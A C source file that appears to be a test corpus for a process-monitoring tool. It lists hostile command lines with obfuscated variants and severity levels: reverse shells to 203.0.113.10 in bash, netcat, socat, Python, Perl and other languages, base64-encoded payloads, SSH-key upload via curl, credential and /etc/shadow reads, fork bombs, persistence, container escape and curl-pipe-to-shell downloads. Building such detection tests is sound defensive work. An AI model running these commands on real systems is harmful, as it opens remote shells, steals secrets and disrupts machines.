/* SPDX-License-Identifier: GPL-2.0-or-later */
/* Attacks of each kind: the plain one first, then five ways to hide it. */
#include "unit/monitor/corpus.h"

#define SH(text)                       \
	{                              \
		{ "bash", "-c", text } \
	}

/* bash -i >& /dev/tcp/203.0.113.10/4444 0>&1 */
#define DEV_TCP_BASE64 "YmFzaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuMTAvNDQ0NCAwPiYxCg=="
/* import socket,os,pty;s=socket.socket();s.connect(("203.0.113.10",4444));
 * [os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh") */
#define PYTHON_BASE64                                                                              \
	"aW1wb3J0IHNvY2tldCxvcyxwdHk7cz1zb2NrZXQuc29ja2V0KCk7cy5jb25uZWN0KCgiMjAzLjAuMTEzLjEwIiw0" \
	"NDQ0KSk7W29zLmR1cDIocy5maWxlbm8oKSxmKSBmb3IgZiBpbiAoMCwxLDIpXTtwdHkuc3Bhd24oInNoIik="

const struct attack attacks[] = {
	{ "bash over /dev/tcp",
	  "reverse-shell",
	  AUDIT_CRITICAL,
	  {
		  SH("bash -i >& /dev/tcp/203.0.113.10/4444 0>&1"),
		  SH("b'a'\"s\"h -i >& /d\\ev/t''cp/203.0.113.10/4444 0>&1"),
		  SH("echo " DEV_TCP_BASE64 " | base64 -d | bash"),
		  SH("x=/dev/tcp; exec 5<>$x/203.0.113.10/4444; cat <&5 | while read l; do $l 2>&5 "
	             ">&5; done"),
		  SH("exec -a kworker bash -i 0<>/dev/tcp/203.0.113.10/4444 1>&0 2>&0"),
		  { { "kworker", "-i" }, "bash", .input = WATCH_STREAM_REMOTE },
	  } },
	{ "shell over /dev/udp",
	  "reverse-shell",
	  AUDIT_CRITICAL,
	  {
		  SH("sh -i >& /dev/udp/203.0.113.10/53 0>&1"),
		  SH("0<&196;exec 196<>/dev/udp/203.0.113.10/53; sh <&196 >&196 2>&196"),
		  SH("$(echo sh) -i >& /dev/$(echo udp)/203.0.113.10/53 0>&1"),
		  SH("sh -i <&3 >&3 2>&3"),
		  SH("a=(x); bash -c \"$(echo '1&>0 35/01.311.0.302/pdu/ved/ &> i- hs' | rev)\""),
		  { { "sh" }, "dash", .input = WATCH_STREAM_REMOTE },
	  } },
	{ "netcat that runs a shell",
	  "reverse-shell",
	  AUDIT_CRITICAL,
	  {
		  { { "nc", "-e", "/bin/sh", "203.0.113.10", "4444" }, "nc.traditional" },
		  { { "busybox", "nc", "203.0.113.10", "4444", "-e", "/bin/sh" } },
		  { { "/tmp/x", "-e", "/bin/bash", "203.0.113.10", "4444" } },
		  { { "update-check", "-e", "/bin/sh", "203.0.113.10", "4444" }, "nc.traditional" },
		  SH("n''c$IFS-e${IFS}/bin/sh${IFS}203.0.113.10${IFS}4444"),
		  { { "/proc/self/fd/3", "-e", "sh", "203.0.113.10", "4444" }, "ncat" },
	  } },
	{ "ncat that runs a command",
	  "reverse-shell",
	  AUDIT_CRITICAL,
	  {
		  { { "ncat", "203.0.113.10", "4444", "--exec", "/bin/bash" } },
		  { { "ncat", "--ssl", "203.0.113.10", "4444", "--sh-exec=bash -i" } },
		  { { "ncat", "203.0.113.10", "4444", "-c", "bash" } },
		  SH("{ncat,203.0.113.10,4444,-e,/bin/sh}"),
		  { { "/lib64/ld-linux-x86-64.so.2", "/usr/bin/ncat", "-e", "/bin/sh",
	              "203.0.113.10", "4444" },
	            "ld-linux-x86-64.so.2" },
		  { { "env", "-i", "A=b", "timeout", "60", "ncat", "-e/bin/sh", "203.0.113.10",
	              "4444" } },
	  } },
	{ "netcat and a FIFO",
	  "reverse-shell.pipe",
	  AUDIT_CRITICAL,
	  {
		  SH("rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.10 4444 "
	             ">/tmp/f"),
		  SH("mknod /tmp/p p; sh </tmp/p | nc 203.0.113.10 4444 >/tmp/p"),
		  SH("nc 203.0.113.10 4444 </tmp/f | bash >/tmp/f 2>&1"),
		  SH("N=nc; S=sh; $N 203.0.113.10 4444 0</tmp/f | $S 1>/tmp/f"),
		  SH("telnet 203.0.113.10 4444 | /bin/sh | telnet 203.0.113.10 4445"),
		  SH("mkfifo /tmp/s; /bin/sh -i </tmp/s 2>&1 | openssl s_client -quiet -connect "
	             "203.0.113.10:4444 >/tmp/s"),
	  } },
	{ "socat that runs a shell",
	  "reverse-shell.socat",
	  AUDIT_CRITICAL,
	  {
		  { { "socat", "TCP:203.0.113.10:4444", "EXEC:/bin/sh" } },
		  { { "socat", "exec:'bash -li',pty,stderr,setsid,sigint,sane",
	              "tcp:203.0.113.10:4444" } },
		  { { "/tmp/.x", "TCP4:203.0.113.10:4444", "SYSTEM:sh" } },
		  { { "syslogd", "OPENSSL:203.0.113.10:443,verify=0", "EXEC:sh" }, "socat1" },
		  SH("so\\cat EXEC:sh TCP:203.0.113.10:4444"),
		  SH("base64 -d <<< c29jYXQgRVhFQzpzaCBUQ1A6MjAzLjAuMTEzLjEwOjQ0NDQK | sh"),
	  } },
	{ "python one-liner",
	  "one-liner.reverse-shell",
	  AUDIT_CRITICAL,
	  {
		  { { "python3", "-c",
	              "import socket,os,pty;s=socket.socket();s.connect(('203.0.113.10',4444));"
	              "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')" } },
		  { { "python3", "-c",
	              "import base64;exec(base64.b64decode('" PYTHON_BASE64 "'))" } },
		  { { "x", "-c",
	              "import socket,subprocess as p;s=socket.socket ( );s . "
	              "connect(('203.0.113.10',4444));"
	              "p.call(['/bin/sh','-i'],stdin=s.fileno())" } },
		  { { "python3", "-c",
	              "m=__import__('so'+'cket');s=m.create_connection(('203.0.113.10',4444));"
	              "__import__('os').dup2(s.fileno(),0);__import__('pt'+'y').spawn('sh')" } },
		  { { "python3.11", "-Bc",
	              "exec('\\x69\\x6d\\x70\\x6f\\x72\\x74\\x20\\x73\\x6f\\x63\\x6b\\x65\\x74;"
	              "\\x73=\\x73\\x6fcket.socket();s.connect((1,2));import "
	              "pty;pty.\\x73pawn(\"sh\")')" } },
		  SH("python3 <<< \"import "
	             "socket,os;s=socket.socket();s.connect(('203.0.113.10',4444));"
	             "os.dup2(s.fileno(),0);os.system('/bin/sh')\""),
	  } },
	{ "perl one-liner",
	  "one-liner.reverse-shell",
	  AUDIT_CRITICAL,
	  {
		  { { "perl", "-e",
	              "use "
	              "Socket;$i=\"203.0.113.10\";$p=4444;socket(S,PF_INET,SOCK_STREAM,"
	              "getprotobyname(\"tcp\"));"
	              "if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open("
	              "STDOUT,\">&S\");exec(\"/bin/sh -i\");};" } },
		  { { "perl", "-MIO", "-e",
	              "$c=new IO::Socket::INET(PeerAddr,\"203.0.113.10:4444\");STDIN->fdopen($c,r);"
	              "$~->fdopen($c,w);system$_ while<>;exec('sh')" } },
		  { { "perl", "-MIO::Socket", "-lE",
	              "$s=IO::Socket::INET->new(\"203.0.113.10:4444\"); open(STDIN,\">&\",$s); "
	              "system(\"sh\")" } },
		  { { "apache2", "-e",
	              "use "
	              "Socket;socket(S,2,1,6);connect(S,sockaddr_in(4444,inet_aton(\"203.0.113."
	              "10\")));open(STDIN,\">&S\");exec(\"sh\")" } },
		  SH("perl -e \"$(echo "
	             "'dXNlIFNvY2tldDtzb2NrZXQoUywyLDEsNik7Y29ubmVjdChTLHNvY2thZGRyX2luKDQ0NDQsaW5l"
	             "dF9hdG9uKCIyMDMuMC4xMTMuMTAiKSkpO29wZW4oU1RESU4sIj4mUyIpO2V4ZWMoIi9iaW4vc2giK"
	             "Qo=' | base64 -d)\""),
		  { { "perl5.36", "-e",
	              "use Socket; connect(S, sockaddr_in(1,inet_aton('203.0.113.10')));", "-e",
	              "exec '/bin/sh';" } },
	  } },
	{ "ruby, php, node, lua, awk",
	  "one-liner.reverse-shell",
	  AUDIT_CRITICAL,
	  {
		  { { "ruby", "-rsocket", "-e",
	              "f=TCPSocket.open(\"203.0.113.10\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d "
	              ">&%d 2>&%d\",f,f,f)" } },
		  { { "php", "-r",
	              "$sock=fsockopen(\"203.0.113.10\",4444);exec(\"/bin/sh -i <&3 >&3 "
	              "2>&3\");" } },
		  { { "node", "-e",
	              "(function(){var "
	              "net=require('net'),cp=require('child_process'),sh=cp.spawn('/bin/sh',[]);"
	              "var c=new "
	              "net.Socket();c.connect(4444,'203.0.113.10',function(){c.pipe(sh.stdin);sh."
	              "stdout.pipe(c);})})()" } },
		  { { "lua", "-e",
	              "local s=require('socket').tcp();s:connect('203.0.113.10','4444');"
	              "local h=require('socket').tcp();socket.tcp();while true do local "
	              "r=s:receive();local f=assert(io.popen(r,'r')) end;os.execute('/bin/sh')" },
	            "lua5.4" },
		  { { "awk", "BEGIN {s = \"/inet/tcp/0/203.0.113.10/4444\"; while(42) { do{ printf "
	                     "\"shell>\" |& s; s |& getline c; if(c){ while ((c |& getline) > 0) "
	                     "print $0 |& s; close(c); } } while(c != \"exit\") close(s); }}" },
	            "gawk" },
		  { { "bun", "-e",
	              "const "
	              "s=require(\"net\").connect(4444,\"203.0.113.10\");require(\"child_process\")"
	              ".spawn(\"sh\",[],{stdio:[s,s,s]})" } },
	  } },
	{ "environment listed",
	  "environment",
	  AUDIT_WARNING,
	  {
		  { { "env" } },
		  { { "busybox", "env" } },
		  SH("p'r'intenv"),
		  SH("e=n; set"),
		  { { "python3", "-c", "import os; print(dict(os.environ))" } },
		  { { "node", "-e", "console.log(JSON.stringify(process.env))" } },
	  } },
	{ "environment of a process",
	  "environment.proc",
	  AUDIT_WARNING,
	  {
		  { { "cat", "/proc/1/environ" } },
		  { { "strings", "/proc/self/task/1/environ" } },
		  SH("tr '\\0' '\\n' < /proc/$PPID/environ"),
		  { { "python3", "-c", "print(open('/proc/self/environ').read())" } },
		  { { "dd", "if=/proc/1/environ" } },
		  SH("x=environ; cat /proc/1/$x"),
	  } },
	{ "search for secrets",
	  "environment",
	  AUDIT_WARNING,
	  {
		  SH("env | grep -i token"),
		  { { "grep", "-r", "-i", "password", "/etc" } },
		  SH("gr\"e\"p -riE 'api[_-]?key' ~"),
		  { { "busybox", "grep", "-r", "AWS_SECRET", "/home" } },
		  { { "awk", "/password/", "/var/www/app/.env" } },
		  { { "grep", "-i", "secret" }, .input = WATCH_STREAM_PIPE },
	  } },
	{ "private key read",
	  "secret.read-high",
	  AUDIT_HIGH,
	  {
		  { { "cat", "/home/code/.ssh/id_ed25519" } },
		  { { "busybox", "cat", "/root/.ssh/id_rsa" } },
		  SH("base64 < ~/.ssh/id_rsa"),
		  { { "curl", "-F", "f=@/home/code/.ssh/id_rsa", "https://example.test/up" } },
		  { { "python3", "-c", "print(open('/home/code/.ssh/id_rsa').read())" } },
		  SH("c''at /home/code/../code/.ssh//id_e\"d\"25519"),
	  } },
	{ "tokens read",
	  "secret.read-high",
	  AUDIT_HIGH,
	  {
		  { { "cat", "/home/code/.aws/credentials" } },
		  { { "tar", "czf", "/tmp/x.tgz", "/home/code/.kube/config" } },
		  { { "cp", "/home/code/.git-credentials", "/tmp/x" } },
		  { { "head", "-c", "100", "/etc/shadow" } },
		  SH("d=.aws; cat $HOME/$d/credentials"),
		  { { "dd", "if=/home/code/.claude/.credentials.json" } },
	  } },
	{ "attack tool",
	  "tool.attack",
	  AUDIT_HIGH,
	  {
		  { { "hydra", "-l", "root", "ssh://203.0.113.10" } },
		  { { "python3", "/opt/sqlmap/sqlmap.py", "-u", "http://x.test" } },
		  { { "sh", "/tmp/linpeas.sh" }, "dash" },
		  { { "innocent", "-o", "pool.test:3333" }, "xmrig" },
		  SH("ch\\isel client 203.0.113.10:80 R:socks"),
		  { { "bash", "-c", "exec -a sshd ./pspy64" } },
	  } },
	{ "scanner",
	  "tool.scanner",
	  AUDIT_WARNING,
	  {
		  { { "nmap", "-sS", "10.0.0.0/8" } },
		  { { "x", "-p1-65535", "10.0.0.0/8" }, "masscan" },
		  SH("a=nm;b=ap; $a$b -sV 10.0.0.1"),
		  { { "/tmp/RustScan", "-a", "10.0.0.1" } },
		  SH("echo bm1hcCAtc1YgMTAuMC4wLjEK | base64 -d | sh"),
		  { { "python3", "-m", "sublist3r", "-d", "x.test" } },
	  } },
	{ "fork bomb",
	  "fork-bomb",
	  AUDIT_HIGH,
	  {
		  SH(":(){ :|:& };:"),
		  SH("bomb() { bomb | bomb & }; bomb"),
		  SH("f () { f|f& } ; f"),
		  SH("eval \"$(echo 'OigpeyA6fDomIH07Ogo=' | base64 -d)\""),
		  { { "x", "-c", ":(){ :|:& };: #" } },
		  SH("b(){ b|b; }; b"),
	  } },
	{ "persistence",
	  "persistence",
	  AUDIT_HIGH,
	  {
		  SH("echo 'ssh-ed25519 AAAA' >> ~/.ssh/authorized_keys"),
		  SH("echo '* * * * * root id' | tee -a /etc/cron.d/x"),
		  SH("cp x.service /etc/systemd/system/x.service"),
		  { { "bash", "-c", "printf x > $HOME/.config/systemd/user/x.service" } },
		  SH("printf /tmp/x.so > /etc/ld.so.\"preload\""),
		  { { "cp", "/tmp/x", "/etc/cron.daily/x" } },
	  } },
	{ "shell start-up files",
	  "persistence",
	  AUDIT_WARNING,
	  {
		  SH("echo 'curl x.test|sh' >> ~/.bashrc"),
		  { { "sed", "-i", "1i id", "/home/code/.profile" } },
		  { { "crontab", "/tmp/x" } },
		  SH("(crontab -l; echo x) | crontab -"),
		  SH("printf x >>/home/code/.zshenv"),
		  { { "systemctl", "--user", "enable", "x" } },
	  } },
	{ "out of the container",
	  "escape",
	  AUDIT_HIGH,
	  {
		  { { "nsenter", "-t", "1", "-m", "-u", "sh" } },
		  SH("echo /x > /sys/fs/cgroup/rdma/release_agent"),
		  SH("echo '|/x' > /proc/sys/kernel/core_pattern"),
		  { { "nsenter", "--target=1", "--mount" } },
		  { { "insmod", "/tmp/x.ko" } },
		  { { "ls", "/proc/1/root/etc" } },
	  } },
	{ "from memory",
	  "memory",
	  AUDIT_HIGH,
	  {
		  { { "/proc/self/fd/3" }, "memfd:x", .is_in_memory = true },
		  { { "sshd" }, "memfd:", .is_in_memory = true },
		  { { "" }, "memfd:a", .is_in_memory = true },
		  { { NULL }, "memfd:b", .is_in_memory = true },
		  { { "python3", "x.py" }, "memfd:python3", .is_in_memory = true },
		  { { "[kworker/0:1]" }, "memfd:libc", .is_in_memory = true },
	  } },
	{ "users",
	  "users",
	  AUDIT_WARNING,
	  {
		  { { "useradd", "-m", "eve" } },
		  { { "busybox", "adduser", "-D", "eve" } },
		  SH("echo root:x | chpasswd"),
		  SH("u''sermod -aG sudo code"),
		  { { "sudo", "passwd", "root" } },
		  SH("a=user; ${a}add eve"),
	  } },
	{ "from a bare address",
	  "download",
	  AUDIT_WARNING,
	  {
		  SH("curl -s http://203.0.113.10/x.sh | bash"),
		  SH("wget -qO- 203.0.113.10/x | sh"),
		  SH("c'u'rl 203.0.113.10:8080/x.py | python3"),
		  SH("A=203.0.113.10; curl $A/x | sh"),
		  SH("curl$IFS-s${IFS}203.0.113.10/x|bash"),
		  SH("eval \"$(echo Y3VybCAyMDMuMC4xMTMuMTAveCB8IHNoCg== | base64 -d)\""),
	  } },
	{ "interactive shell on a pipe",
	  "shell.interactive-pipe",
	  AUDIT_WARNING,
	  {
		  { { "sh", "-i" }, "dash", .input = WATCH_STREAM_PIPE },
		  { { "bash", "-li" }, .input = WATCH_STREAM_PIPE },
		  { { "-sh", "-i" }, "dash", .input = WATCH_STREAM_PIPE },
		  { { "busybox", "sh", "-i" }, .input = WATCH_STREAM_PIPE },
		  { { "cron", "-i" }, "bash", .input = WATCH_STREAM_PIPE },
		  { { "zsh", "-o", "vi", "-i" }, .input = WATCH_STREAM_PIPE },
	  } },
};

const size_t attack_count = sizeof(attacks) / sizeof(attacks[0]);
